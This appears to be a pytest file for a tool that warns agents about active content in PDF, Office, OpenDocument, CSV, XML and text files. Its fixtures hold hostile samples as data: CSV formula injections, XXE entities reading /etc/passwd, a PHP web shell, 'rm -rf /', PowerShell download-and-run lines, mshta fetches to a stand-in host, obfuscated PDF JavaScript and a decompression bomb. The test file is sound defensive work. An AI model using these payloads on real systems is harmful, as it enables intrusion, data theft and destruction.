"""Content that runs, fetches or sends when somebody opens the file, and that scanners for malware call clean."""

import io
import zlib
from collections.abc import Callable

import pikepdf
import pytest

from tests.support.inspection.examined import found
from tests.support.samples.files_of_each_type import (
    HONEST,
    MAIN_TYPES,
    PROGRAM,
    content_types,
    manifest,
    office,
    open_document,
    pdf,
    relationships,
    sample,
)

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_OLE = "application/vnd.openxmlformats-officedocument.oleObject"


def warnings(ending: str, content: bytes) -> set[str]:
    """What agents are warned of; the file is handed over all the same."""
    finding = found(ending, content)
    assert finding.verdict == "clean", finding
    return set(finding.warnings)


def document(change: Callable[[pikepdf.Pdf], None], *, packed: bool) -> bytes:
    """A PDF after a change; `packed` puts its objects into compressed streams."""
    made = pikepdf.open(io.BytesIO(pdf()))
    change(made)
    file = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    made.save(file, object_stream_mode=mode)
    return file.getvalue()


def _on_opening(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(**action))  # type: ignore[arg-type]

    return change


def _on_page(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = pikepdf.Dictionary(O=made.make_indirect(pikepdf.Dictionary(**action)))  # type: ignore[arg-type]

    return change


def _with_file(made: pikepdf.Pdf) -> None:
    made.attachments["facture.exe"] = pikepdf.AttachedFileSpec(made, PROGRAM)


def _with_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = made.make_indirect(pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>")))


NAME = pikepdf.Name
PDF = {
    "javascript": _on_opening(S=NAME.JavaScript, JS="app.alert(1)"),
    "javascript on a page": _on_page(S=NAME.JavaScript, JS="app.alert(1)"),
    "launch": _on_opening(S=NAME.Launch, F="cmd.exe"),
    "embedded_file": _with_file,
    "form_script": _with_form,
    "sends_data": _on_page(S=NAME.SubmitForm, F="https://elsewhere.example"),
    "rich_media": _on_page(S=NAME.Rendition, OP=0),
}


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "packed"])
@pytest.mark.parametrize("kind", PDF)
def test_actions_of_a_pdf(kind: str, packed: bool) -> None:
    """To have a program run, or data sent, when an agent opens a PDF; in objects that are compressed too."""
    assert warnings("pdf", document(PDF[kind], packed=packed)) == {kind.partition(" ")[0]}


def test_an_action_far_from_both_ends_of_a_large_pdf() -> None:
    """To hide an action behind megabytes of pictures."""
    hidden = document(PDF["javascript"], packed=True)
    at = hidden.index(b"endobj") + 6
    padding = b"\n%" + b"x" * 20_000_000 + b"\n"
    assert warnings("pdf", hidden[:at] + padding + hidden[at:] + padding) == {"javascript"}


@pytest.mark.parametrize("written", [b"/#4aavaScript", b"/J#61v#61Script", b"/JavaScrip#74", b"/#4A#61#76#61#53cript"])
def test_an_action_written_in_codes(written: bytes) -> None:
    """To write a name so that a search for it fails, and programs that open PDF understand it."""
    plain = document(PDF["javascript"], packed=False)
    assert warnings("pdf", plain.replace(b"/JavaScript", written)) == {"javascript"}


@pytest.mark.parametrize(
    "filters", [b"/ASCIIHexDecode", b"[/ASCIIHexDecode /FlateDecode]", b"/LZWDecode", b"/Fl#61teDecode"]
)
def test_objects_packed_as_no_honest_program_packs_them(filters: bytes) -> None:
    """To pack objects so that only programs that open PDF can look into them."""
    objects = b"1 0 <</S/JavaScript/JS(x)>>".hex().encode() + b">"
    stream = b"9 0 obj <</Type/ObjStm/N 1/First 4/Filter %s/Length 99>>stream\n%s\nendstream endobj\n" % (
        filters,
        objects,
    )
    assert warnings("pdf", pdf() + stream) == {"unexamined"}


def test_objects_that_unpack_to_gigabytes() -> None:
    """To fill the memory of the function that looks into a file."""
    bomb = zlib.compress(b" " * 60_000_000, 9)
    stream = b"9 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n%s\nendstream endobj\n" % bomb
    assert warnings("pdf", pdf() + stream * 50) == {"unexamined"}


def _with_part(name: str, content: bytes, content_type: str = "") -> bytes:
    """A letter with one more part, of this type."""
    types = {"/word/document.xml": MAIN_TYPES["docx"]} | ({f"/{name}": content_type} if content_type else {})
    return office("docx", {"[Content_Types].xml": content_types(**types), name: content})


def _with_reference(kind: str, target: str, mode: str = "External") -> bytes:
    """A letter whose main part refers to something."""
    references = relationships((_OFFICE + kind, target), mode=mode)
    return office("docx", {"word/_rels/document.xml.rels": references})


DOCX = {
    "OLE object by its type": (_with_part("word/x.dat", b"x", _OLE), {"embedded_object"}),
    "OLE object by its reference": (_with_reference("oleObject", "x.bin", "Internal"), {"embedded_object"}),
    "OLE object by its content": (_with_part("word/media/x.bin", sample("protected.docx")), {"embedded_object"}),
    "OLE object elsewhere": (_with_reference("oleObject", "mhtml:https://x.example!x"), {"external_content"}),
    "ActiveX": (_with_part("word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"), {"activex"}),
    "ActiveX by its reference": (_with_reference("control", "activeX1.xml", "Internal"), {"activex"}),
    "program": (_with_part("word/embeddings/facture.dat", PROGRAM), {"embedded_program"}),
    "script": (_with_part("word/embeddings/run", b"#!/bin/sh\n"), {"embedded_program"}),
    "template": (_with_reference("attachedTemplate", "https://x.example/t.dotm"), {"external_template"}),
    "template on a share": (
        _with_reference("attachedTemplate", "file:///\\\\x.example\\t.dotm"),
        {"external_template"},
    ),
    "frame": (_with_reference("frame", "https://x.example"), {"external_content"}),
    "picture that is fetched": (_with_reference("image", "https://x.example/pixel.png"), {"external_content"}),
    "another format within": (_with_reference("aFChunk", "x.rtf", "Internal"), {"embedded_object"}),
}


@pytest.mark.parametrize("case", DOCX)
def test_active_content_of_an_office_document(case: str) -> None:
    """To have a program run, or a template with macros fetched, when an agent opens a letter."""
    content, kinds = DOCX[case]
    assert warnings("docx", content) == kinds


def test_macros_of_an_open_document() -> None:
    """To have LibreOffice ask the agent to run a macro."""
    assert warnings("odt", open_document("odt", {"Basic/Standard/Module1.xml": b"<x/>"})) == {"macro"}
    assert warnings("odt", open_document("odt", {"Scripts/python/x.py": b"x"})) == {"macro"}
    entry = (
        '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
    )
    with_object = {"META-INF/manifest.xml": manifest("odt", entry), "Object 1": b"x"}
    assert warnings("odt", open_document("odt", with_object)) == {"embedded_object"}


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://x.example?x="&A1;"Ouvrir")',
        '"=IMPORTXML(CONCAT(""https://x.example"",A1))"',
        "=WEBSERVICE(A1)",
        "'=1+1",
        " =1+1",
        "＝1+1",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1256"])
@pytest.mark.parametrize("rows_before", [0, 60_000])
def test_a_cell_that_is_computed(cell: str, encoding: str, rows_before: int) -> None:
    """To have a spreadsheet compute what a stranger typed, in whatever row."""
    table = "nom;montant\r\n" + "Amina;12\r\n" * rows_before + f"Amina;{cell};12\r\n"
    content = table.encode(encoding, "replace")
    if cell.encode(encoding, "ignore").decode(encoding).strip("\ufeff") == cell:
        assert warnings("csv", content) == {"formula"}


XML = {
    "entity": ("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", {"external_entity"}),
    "parameter": ("<!DOCTYPE a [<!ENTITY % x SYSTEM 'https://x.example'> %x;]><a/>", {"external_entity"}),
    "public": ("<!DOCTYPE a [<!ENTITY x PUBLIC 'x' 'https://x.example'>]><a/>", {"external_entity"}),
    "document type": ("<!DOCTYPE a SYSTEM 'https://x.example/a.dtd'><a/>", {"external_entity"}),
    "style sheet": ("<?xml-stylesheet type='text/xsl' href='https://x.example/x.xsl'?><a/>", {"stylesheet"}),
    "script": ("<a><s:script xmlns:s='http://www.w3.org/1999/xhtml'>x()</s:script></a>", {"script"}),
    "drawing": ("<a><g xmlns='http://www.w3.org/2000/svg' onload='x()'/></a>", {"script"}),
    "namespace in codes": ("<a><b xmlns='http://www.w3.org/1999/xhtm&#108;'/></a>", {"script"}),
    "namespace in an entity": (
        "<!DOCTYPE a [<!ENTITY h 'http://www.w3.org/1999/xhtml'>]><a><b xmlns='&h;'/></a>",
        {"script"},
    ),
    "far from the beginning": ("<a>" + "<b/>" * 400_000 + "<script/></a>", {"script"}),
}


@pytest.mark.parametrize("case", XML)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_active_content_of_xml(case: str, encoding: str) -> None:
    """To have a parser fetch a file of the organism's, or a browser run a script."""
    text, kinds = XML[case]
    assert warnings("xml", text.encode(encoding)) == kinds


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\nrm -rf /\n",
        "#!/usr/bin/env python3\n",
        "@echo off\r\nstart calc.exe\r\n",
        "<?php system($_GET['c']); ?>",
        "<% eval request('c') %>",
        'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"',
        "var s = new ActiveXObject('WScript.Shell');",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example')",
        "Windows Registry Editor Version 5.00\r\n",
        "cmd.exe /c start calc",
        "mshta https://x.example/x.hta",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_script_named_as_a_text(text: str, encoding: str) -> None:
    """To have an agent rename a text, or paste it, because it says so."""
    assert warnings("txt", text.encode(encoding)) == {"script"}


HONEST_TABLE = (
    "nom;téléphone;montant;note\r\n"
    "Amina;+212 661-23-45-67;-12,50;a=b\r\n"
    "أمينة;+212661234567;-5;- (voir annexe)\r\n"
    "=====;---;;\r\n"
)
HONEST_LETTER = "Bonjour,\n\n@ bientôt. L'évaluation (eval) du système est jointe.\n- un\n- deux\n"
EMPTY_LIBRARIES = {"Basic/script-lc.xml": b"<x/>", "Basic/Standard/script-lb.xml": b"<x/>"}
HONEST_FILES = {
    **{f"honest.{ending}": (ending, content) for ending, content in HONEST.items()},
    "backslash.docx": ("docx", sample("backslash.docx")),
    "deflated.ods": ("ods", sample("deflated.ods")),
    "pjl_before.pdf": ("pdf", sample("pjl_before.pdf")),
    "packed.pdf": ("pdf", document(lambda _: None, packed=True)),
    "numbers.csv": ("csv", HONEST_TABLE.encode()),
    "numbers-16.csv": ("csv", HONEST_TABLE.encode("utf-16")),
    "letter.txt": ("txt", HONEST_LETTER.encode()),
    "invoice.xml": ("xml", b"<Invoice xmlns='urn:x'><Note>&lt;script&gt;</Note></Invoice>"),
    "link.docx": ("docx", _with_reference("hyperlink", "https://www.maroc.ma")),
    "chart.docx": ("docx", _with_part("word/embeddings/table.xlsx", HONEST["xlsx"])),
    "libraries.odt": ("odt", open_document("odt", EMPTY_LIBRARIES)),
}


@pytest.mark.parametrize("name", HONEST_FILES)
def test_honest_files_warn_of_nothing(name: str) -> None:
    """To make agents deaf to warnings: they must be rare to be read."""
    ending, content = HONEST_FILES[name]
    assert warnings(ending, content) == set()
